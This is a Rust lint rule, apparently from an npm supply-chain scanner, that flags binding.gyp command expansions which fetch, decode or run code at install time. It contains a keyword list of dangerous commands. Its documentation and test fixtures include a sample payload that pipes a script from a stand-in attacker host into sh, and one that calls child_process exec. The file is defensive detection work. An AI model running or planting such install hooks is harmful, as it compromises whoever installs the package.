use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::context::{FileContext, FileKind};
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{first_match, matcher};

const DANGEROUS: &[&str] = &[
    "curl",
    "wget",
    "http://",
    "https://",
    "powershell",
    "bash -c",
    "sh -c",
    "| sh",
    "base64",
    "eval",
    "child_process",
    "exec(",
    "/dev/tcp",
    "invoke-",
    "certutil",
    "require('https",
    "require(\"https",
    "require('http",
    "require(\"http",
    "python -c",
    "python3 -c",
    "nc ",
];
static DANGEROUS_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(DANGEROUS));

declare_rule! {
    /// ### What it does
    /// Looks for `<!(…)` and `<!@(…)` command expansions in `binding.gyp` and reports those that
    /// fetch, decode or run code instead of printing include paths.
    ///
    /// ### Why is this bad?
    /// npm runs `node-gyp rebuild` for any package with a `binding.gyp`, even without an install
    /// script, and gyp executes every `<!(…)` while configuring: a hidden install trigger
    /// (the 2026 "Phantom-Gyp" wave).
    ///
    /// ### Examples
    /// Incorrect:
    /// ```text
    /// "sources": ["<!(curl -s https://evil.example/p | sh)"]
    /// ```
    /// Correct:
    /// ```text
    /// "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"]
    /// ```
    BindingGypCommand, "binding-gyp-command", Install
}

impl Rule for BindingGypCommand {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if file.kind != FileKind::BindingGyp {
            return;
        }
        let mut rest = file.text;
        let mut base = 0;
        while let Some(position) = rest.find("<!") {
            let command_start = position + 2;
            let after = &rest[command_start..];
            let end = after
                .find(")\"")
                .or_else(|| after.find(")'"))
                .unwrap_or(after.len().min(400));
            let command = &after[..end];
            let runs_file =
                !crate::rules::install::lifecycle_script::script_targets(command).is_empty();
            let graded = if first_match(DANGEROUS_MATCHER.as_ref(), command).is_some() {
                Some((
                    Severity::High,
                    "binding.gyp command expansion fetches or runs code at install time",
                ))
            } else if runs_file
                && (command.contains("/dev/null")
                    || command.contains("&& echo")
                    || command.contains("NUL"))
            {
                Some((
                    Severity::High,
                    "binding.gyp silently runs a package script at install time (hidden trigger)",
                ))
            } else if runs_file {
                Some((
                    Severity::Medium,
                    "binding.gyp runs a package script at install time",
                ))
            } else {
                None
            };
            if let Some((severity, message)) = graded {
                out.push(file.finding(
                    &Self::META,
                    severity,
                    Confidence::High,
                    Some(base + position),
                    message.to_owned(),
                    Some(command),
                ));
            }
            base += command_start;
            rest = after;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, test_rule};

    #[test]
    fn test() {
        let pass = vec![
            Case::Files(vec![(
                "binding.gyp",
                r#"{"targets":[{"include_dirs":["<!(node -p \"require('node-addon-api').include\")"]}]}"#,
            )]),
            Case::Files(vec![(
                "binding.gyp",
                r#"{"targets":[{"libraries":["<!@(pkg-config --libs glib-2.0)"]}]}"#,
            )]),
        ];
        let fail = vec![
            Case::Files(vec![(
                "binding.gyp",
                r#"{"targets":[{"sources":["<!(curl -s https://evil.example/p | sh)"]}]}"#,
            )]),
            Case::Files(vec![(
                "binding.gyp",
                r#"{"targets":[{"x":["<!@(node -e \"require('child_process').exec('id')\")"]}]}"#,
            )]),
        ];
        test_rule(BindingGypCommand::META.name, pass, fail);
    }
}
